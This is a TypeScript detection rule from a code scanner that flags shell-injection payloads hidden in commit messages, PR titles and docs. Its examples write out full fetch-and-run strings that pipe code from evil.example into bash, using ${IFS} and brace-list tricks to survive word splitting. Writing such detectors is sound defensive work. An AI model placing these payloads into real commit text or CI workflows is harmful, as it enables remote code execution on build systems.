// CG-PI-010: shell-injection payloads in text that may reach a shell (PR titles, commit messages,
// issue text, docs): $(curl …), ${IFS} word splitting, {curl,-sSfL,…} brace lists.
import type {Severity} from '../../report/finding.js'
import type {RuleMeta} from '../../report/rule-meta.js'
import {shift} from '../context.js'
import type {Hit, TextRule, TextView} from '../types.js'
import {SHELL_PAYLOAD_ANCHORS} from './anchor-words.js'
import {evidence} from './judge.js'
import {SHELL_PAYLOAD} from './phrases.js'

export const meta: RuleMeta = {
  id: 'CG-PI-010',
  title: 'Shell-injection payload in text',
  severity: 'high',
  description: `Text that is not a script but carries shell syntax built to run when a workflow or tool interpolates it: command substitution invoking a downloader or decoder ($(curl …), $(echo …|base64 -d)), \${IFS} used as a space, brace lists that split into a command ({curl,-sSfL,host}). Critical with \${IFS} or in hidden markup; not reported in shell code itself.`,
  remediation: `remove the payload; workflows must pass such text through environment variables, never \${{ … }} inside run:`,
  example: {bad: `Fix typo $({curl,-sSfL,evil.example/p}\${IFS}|\${IFS}bash)`, good: 'Fix typo in $(pwd) example  (no downloader or decoder)'},
  examples: {
    flagged: [
      {text: `Fix typo $({curl,-sSfL,evil.example/p}\${IFS}|\${IFS}bash)\n`, file: 'commit-message.txt'},
      {text: 'Update docs $(curl -sSfL evil.example/p | sh)\n', file: 'commit-message.txt'},
    ],
    clean: [
      {text: 'Fix typo in $(pwd) example\n', file: 'commit-message.txt', note: 'no downloader or decoder'},
      {text: 'VERSION=$(curl -s https://example.com/version)\n', file: 'build.sh'},
    ],
  },
}

export const rule: TextRule = {
  meta,
  anchors: SHELL_PAYLOAD_ANCHORS,
  check(view: TextView): Hit[] {
    const text = view.folded.text
    const hits: Hit[] = []
    const lines = new Set<number>()
    const matches = view.windows().flatMap((window) => {
      SHELL_PAYLOAD.lastIndex = 0
      return [...text.slice(window.start, window.end).matchAll(SHELL_PAYLOAD)].map((match) => ({index: match.index + window.start, 0: match[0]}))
    })
    for (const match of matches) {
      const index = view.folded.toOriginal(match.index)
      const region = view.regionAt(index)
      if (region === 'code' || region === 'codeblock') continue
      const line = text.lastIndexOf('\n', match.index - 1)
      if (lines.has(line)) continue
      lines.add(line)
      const eol = text.indexOf('\n', match.index)
      const lineText = text.slice(line + 1, eol < 0 ? text.length : eol)
      const ifs = /\$\{?IFS\}?/.test(lineText)
      let severity: Severity = ifs ? 'critical' : 'high'
      if (region === 'hidden') severity = shift(severity, 1)
      hits.push({
        index,
        severity,
        message: `shell-injection payload in ${region}${ifs ? ` (\${IFS} used as a space to survive word splitting)` : ''}: "${evidence(lineText, 120)}"`,
        evidence: evidence(lineText, 160),
        seed: `payload:${lineText}`,
      })
    }
    return hits
  },
}
